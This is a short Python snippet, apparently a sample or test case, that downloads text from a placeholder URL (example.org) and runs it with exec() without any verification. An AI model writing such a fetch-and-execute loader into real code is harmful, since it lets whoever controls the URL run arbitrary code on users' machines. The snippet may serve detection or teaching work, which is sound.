import requests

try:
    code = requests.get("https://example.org/code").text
except OSError:
    code = ""
exec(code)
